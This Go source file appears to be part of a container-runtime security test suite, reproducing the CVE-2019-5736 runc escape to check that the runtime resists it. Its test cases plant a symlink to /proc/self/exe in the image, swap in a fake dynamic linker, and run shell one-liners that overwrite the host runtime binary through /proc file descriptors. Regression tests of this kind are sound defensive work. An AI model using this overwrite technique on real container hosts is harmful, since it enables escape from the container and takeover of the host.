package attack

import (
	"errors"
	"fmt"
	"os"
	"strings"

	"github.com/berthcloud/berth/internal/testenv"
)

// binaryAttacks reach for the file that the runtime is executed from: a process
// that has been the runtime for a moment has it as /proc/self/exe.
var binaryAttacks = []attack{
	{"entrypoint is the runtime", "CVE-2019-5736", false, entrypointIsRuntime},
	{"interpreter is the runtime", "CVE-2019-5736", false, interpreterIsRuntime},
	{"exec is the runtime", "CVE-2019-5736", false, execIsRuntime},
	{"overwritten from beside", "CVE-2019-5736", true, overwrittenFromBeside},
}

// overwrite keeps the program that it runs as and writes to it as soon as
// nobody executes it any more.
const overwrite = `exec 9</proc/self/exe; exec /bin/busybox sh -c 'i=0
	while [ $i -lt 300 ]; do (echo OWNED >/proc/self/fd/9) 2>/dev/null && echo wrote && break; i=$((i+1)); done; echo end'`

// trojan makes /bin/ash of the image the runtime itself. A runtime that is
// linked dynamically then loads the image's dynamic linker, which is a shell.
func (a *testbed) trojan() {
	a.must(os.Symlink("/proc/self/exe", a.rootfs("bin/ash")))
	for _, linker := range []string{"lib64/ld-linux-x86-64.so.2", "lib64/ld-linux-aarch64.so.1"} {
		a.must(os.Link(a.rootfs("bin/busybox"), a.rootfs(linker)))
	}
	a.must(os.WriteFile(a.rootfs("evil"), []byte("#!/bin/ash\n"+overwrite), 0o755))
}

func entrypointIsRuntime(a *testbed) verdict {
	a.trojan()
	a.spec.Process.Args = []string{"/bin/ash", "-c", overwrite}
	return a.tryOverwrite()
}

func interpreterIsRuntime(a *testbed) verdict {
	a.trojan()
	a.spec.Process.Args = []string{"/evil"}
	return a.tryOverwrite()
}

func (a *testbed) tryOverwrite() verdict {
	if r := a.start(); r.code != 0 {
		return refusal(r.stderr)
	}
	// Whether it wrote, the binary tells. A static runtime prints its usage instead.
	testenv.Eventually(a.t, patience, func() error {
		log, err := os.ReadFile(a.log())
		if r := a.oci("state", a.id); !strings.Contains(string(log), "end") && strings.Contains(r.stdout, "running") {
			return errors.Join(err, errors.New("it is still at it"))
		}
		return nil
	})
	return held()
}

func execIsRuntime(a *testbed) verdict {
	a.trojan()
	a.shell("sleep 100")
	if r := a.start(); r.code != 0 {
		return refusal(r.stderr)
	}
	for _, argv := range [][]string{{"/bin/ash", "-c", overwrite}, {"/evil"}} {
		a.oci(append([]string{"exec", a.id}, argv...)...)
	}
	return held()
}

// overwrittenFromBeside writes to whatever other processes run as while the
// runtime enters the container.
func overwrittenFromBeside(a *testbed) verdict {
	a.shell(`echo started; while :; do for f in /proc/[0-9]*/exe; do case "$(readlink $f)" in *busybox*) ;; *) echo OWNED >$f;; esac; done; done 2>/dev/null`)
	if r := a.start(); r.code != 0 {
		return refusal(r.stderr)
	}
	for i := range 20 {
		a.oci("exec", a.id, "true", fmt.Sprint(i))
	}
	return held()
}
